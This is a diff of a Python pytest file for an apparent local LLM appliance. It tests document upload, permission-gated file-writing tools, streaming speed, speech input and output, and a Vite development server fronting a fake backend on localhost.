+    with zipfile.ZipFile(tmp_path / "paper.docx", "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr("word/document.xml", f'<w:document xmlns:w="{WORD_NAMES}">{body}</w:document>')
+    play("others.documents", serve_fake(FAKE_SCRIPT='[{"echo": true}]'), str(tmp_path / "paper.docx"))
+
+
+def test_a_tool_that_writes_is_asked_for(play: Play, serve_fake: StartServer, notes: Path) -> None:
+    writes, again = (call(n, "write_file", path="note.txt", content=text) for n, text in ((1, "hi"), (3, "again")))
+    script = says(writes, call(2, "read_file", path="note.txt"), again, {"text": "All is written."})
 
     def asked() -> None:
-        assert not note.exists()
+        assert not notes.exists()
 
-    tools = ("--tools", "write_file", "--tools-root", str(note.parent))
-    play("questions.permission", serve_fake(*tools, FAKE_SCRIPT=json.dumps(script)), asked=asked)
+    def written() -> None:
+        assert notes.read_text("utf-8") == "again"
+        notes.write_text("hi", "utf-8")
+
+    tools = ("--tools", "write_file,read_file", "--tools-root", str(notes.parent))
+    play("questions.tools", serve_fake(*tools, **script), asked=asked, written=written)
+
+
+@pytest.mark.parametrize("scenario", ["questions.permission", "keeping.passing"])
+def test_a_tools_question_is_noticed_and_not_answered_by_chance(
+    play: Play, serve_fake: StartServer, notes: Path, scenario: str
+) -> None:
+    """A call that is passed over is named."""
+    first, second = (call(n, "write_file", path="note.txt", content="hi") for n in (1, 2))
+
+    def asked() -> None:
+        assert not notes.exists()
+
+    tools = ("--tools", "write_file", "--tools-root", str(notes.parent))
+    play(scenario, serve_fake(*tools, **says(first, {"text": "Fine."}, second)), asked=asked)
+
+
+@pytest.mark.parametrize("name", GROWING)
+def test_a_frame_costs_little_more_late_in_an_answer(play: Play, serve_fake: StartServer, name: str) -> None:
+    """``-s`` shows the figures. On a quiet machine ``PACE=0.005 PARTS=310`` streams 200 pieces a second for 60 s."""
+    turn = {"text": GROWING[name], "pace": float(os.environ.get("PACE", "0.001"))}
+    play("output.growing", serve_fake(**says(turn)), str(STEEPEST[name]))
+
+
+@pytest.mark.parametrize(
+    ("scenario", "arguments"),
+    [
+        ("spoken", ALLOWED),
+        ("gestures", ALLOWED),
+        ("aloud", ALLOWED),
+        ("refused", f"{MICROPHONE} --deny-permission-prompts"),
+    ],
+)
+def test_speech_becomes_text_and_text_becomes_speech(
+    play: Play, serve: StartServer, fake_engine: Path, tmp_path: Path, scenario: str, arguments: str
+) -> None:
+    """The browser's microphone and permission are Chromium's own."""
+    model = write_model(tmp_path / "small.gguf")
+    file = ConfigFile(tmp_path / "config.yaml", fake_engine, "--model", model)
+    models: dict[str, dict[str, object]] = {
+        "ears": {"cmd": file.cmd("--mmproj", str(model)), "capabilities": {"in": ["audio"], "out": ["text"]}},
+        "mouth": {"capabilities": {"in": ["text"], "out": ["audio"]}},
+        "talker": {},
+    }
+    server = serve("--config", file.write(models), "--no-stores", "--no-starter", **says({"text": SPOKEN}))
+    play(f"voice.{scenario}", server, within=("env", arguments))
+
+
+@pytest.mark.needs("node", "page-packages")
+def test_the_development_server_stands_in_front_of_a_running_one(
+    serve_fake: StartServer, free_port: Callable[[], int]
+) -> None:
+    folder = ROOT / "appliance" / "web"
+    server, port = serve_fake(), free_port()
+    command = [folder / "node_modules/.bin/vite", "--host", "127.0.0.1", "--port", str(port), "--strictPort"]
+    env = {**os.environ, "LLAMA_APPLIANCE_URL": server.url, "NO_COLOR": "1"}
+    with subprocess.Popen(
+        command, cwd=folder, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
+    ) as process:
+        assert process.stdout is not None
+        try:
+            while b"Local:" not in (line := process.stdout.readline()):
+                assert line, "it has ended"
+            # The page, a part of it, which is compiled when it is asked for, and what the server behind it says.
+            for path, words in (("/", b"/src/main.ts"), ("/src/App.svelte", b"svelte"), ("/v1/models", b'"small"')):
+                with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=60) as found:
+                    assert words in found.read(), path
+        finally:
+            process.kill()
